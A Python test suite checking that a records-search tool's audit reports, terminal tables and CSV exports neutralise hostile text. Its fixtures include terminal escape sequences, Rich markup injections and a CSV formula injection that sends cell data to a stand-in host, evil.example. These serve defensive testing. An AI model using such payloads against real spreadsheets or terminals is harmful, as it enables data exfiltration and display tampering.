"""Text from requesters, nodes and records is inert in every table, report and CSV export.

A case number ``[/x]`` or a subject ``[/ice]`` once crashed the audit reports
(rich read them as closing tags), a node's record id carrying an escape
sequence reached the investigator's terminal, and ``=HYPERLINK(...)`` went
into CSV exports unchanged. These tests write real audit logs with hostile
text and run the real reports through the real CLI.
"""

from __future__ import annotations

import csv
import io
import tempfile
import unicodedata
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console

from fieldgate.cli.main import cli
from fieldgate.client.render import agency_table, comparison_table
from fieldgate.client.results import AgencyView, HitView, ReleasedValue, SearchResult
from fieldgate.core.inert_text import csv_safe, markup_safe, terminal_safe
from fieldgate.node.audit.keys import ensure_key
from fieldgate.node.audit.store import AuditStore

ESC = "\x1b"
HOSTILE = [
    "[/x]",
    "[/ice]",
    "[bold red]boss[/]",
    f"{ESC}[2J{ESC}]0;pwned{chr(7)}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\tTAB",
    "\rCR",
    "ordinary",
    "日本語 Nguyễn",
    "\u202eevil\u202c",
]


def _search_entry(text: str, number: int) -> dict[str, Any]:
    """A search entry whose every requester and record string is ``text``."""
    requester = {
        "subject": text,
        "agency": text,
        "agency_type": text,
        "purpose": text,
        "case_number": text,
        "credential_id": text or "cred",
        "issuer": text,
        "allowed_purposes": [text],
        "authority": [{"id": text}],
    }
    fields = [
        {"name": text or "f", "outcome": "released", "class": text},
        {"name": "dob", "outcome": "masked", "mask": text, "class": "identity"},
    ]
    return {
        "request_id": f"req-{number}",
        "outcome": "hit" if number % 2 else "denied",
        "contract_version": text,
        "requester": requester,
        "disclosed": [text],
        "records": [
            {"record_id": text, "sent": number % 2 == 1, "fields": fields, "error": text},
        ],
    }


def _write_log(directory: Path, texts: list[str]) -> Path:
    path = directory / "audit.sqlite"
    store = AuditStore.open(
        path,
        node_id="kcso",
        key=ensure_key(directory / "audit-key.pem"),
        checkpoint_every=100,
        checkpoint_seconds=3600,
    )
    for number, text in enumerate(texts):
        store.append("search", _search_entry(text, number))
        store.append("search", _search_entry(text, number + 1))
    store.close()
    return path


REPORTS: list[list[str]] = [
    ["by-purpose"],
    ["accounts"],
    ["credentials", "--today", "2030-01-01"],
    ["denials"],
]


def _run_reports(db: Path, record_id: str, csv_dir: Path) -> list[str]:
    """Every report as a table and as CSV; returns the table outputs."""
    runner = CliRunner()
    outputs = []
    subject = ["subject", "--record-id", record_id]
    for args in [*REPORTS, subject]:
        out_csv = csv_dir / f"{args[0]}.csv"
        result = runner.invoke(
            cli, ["audit", "report", *args, "--db", str(db), "--csv", str(out_csv)]
        )
        assert result.exit_code == 0, (args, result.output, result.exception)
        outputs.append(result.output)
        with out_csv.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (args, cell)
    return outputs


def _no_terminal_controls(output: str) -> None:
    for char in output:
        assert char == "\n" or unicodedata.category(char) not in ("Cc", "Cf"), repr(char)


def test_concrete_hostile_strings_are_shown_not_obeyed(tmp_path: Path) -> None:
    db = _write_log(tmp_path, HOSTILE)
    outputs = _run_reports(db, "[/x]", tmp_path)
    for output in outputs:
        _no_terminal_controls(output)
    subject_report, accounts_report = outputs[4], outputs[1]
    # Shown exactly as written, not eaten as markup.
    assert "[/x]" in subject_report
    assert "[/ice]" in accounts_report
    assert "[bold red]boss[/]" in accounts_report
    assert "\\x1b[2J" in accounts_report
    with (tmp_path / "subject.csv").open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "[/x]" in cells
    with (tmp_path / "accounts.csv").open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=3))
def test_no_report_crashes_on_any_string(texts: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        directory = Path(folder)
        db = _write_log(directory, texts)
        for output in _run_reports(db, texts[0], directory):
            _no_terminal_controls(output)


@given(st.text())
def test_terminal_safe_leaves_no_control_character(text: str) -> None:
    shown = terminal_safe(text)
    _no_terminal_controls(shown.replace("\n", "\\n"))
    assert "\n" not in shown
    # Printable text is untouched: names of every script survive.
    if text.isprintable():
        assert shown == text


@given(st.text())
def test_markup_safe_renders_as_written(text: str) -> None:
    console = Console(file=io.StringIO(), color_system=None, width=10_000)
    console.print(markup_safe(text), end="", highlight=False, soft_wrap=True)
    output = console.file.getvalue()  # type: ignore[attr-defined]
    # rich doubles a trailing backslash so it cannot escape a tag that follows.
    assert output.rstrip("\\") == terminal_safe(text).rstrip("\\")


@given(st.one_of(st.text(), st.integers(), st.none()))
def test_csv_safe_never_starts_a_formula(value: Any) -> None:
    cell = csv_safe(value)
    if isinstance(value, str):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.removeprefix("'") == value or cell == value
    else:
        assert cell == value


def _hostile_result() -> SearchResult:
    hit = HitView(
        reference=f"KC-1{ESC}[2J{ESC}]0;owned{chr(7)}",
        record_kind="[/x]booking",
        score=0.97,
        match_reasons=(f"name{ESC}[31m",),
        fields={f"addr{ESC}[K": ReleasedValue(f"=HYPERLINK(x){ESC}[1A", "contact", "[/ice]")},
        contact={"unit": "[bold]Records[/]", "phone": f"555{ESC}c"},
    )
    agency = AgencyView("kcso", f"King{ESC}[8m County", "answered", "", 0.1, (hit,))
    failed = AgencyView("spd", "Seattle", "error", f"INTERNAL: boom{ESC}[2J", 0.1, ())
    return SearchResult("req-1", (agency, failed))


def test_search_tables_escape_node_text() -> None:
    result = _hostile_result()
    console = Console(file=io.StringIO(), color_system=None, width=300)
    for agency in result.agencies:
        console.print(agency_table(agency))
    console.print(comparison_table(f"King{ESC}[8m County", ["[/x]"], [result]))
    output = console.file.getvalue()  # type: ignore[attr-defined]
    _no_terminal_controls(output)
    assert "\\x1b[2J" in output
    assert "[/ice]" in output
    assert "[bold]Records[/]" in output
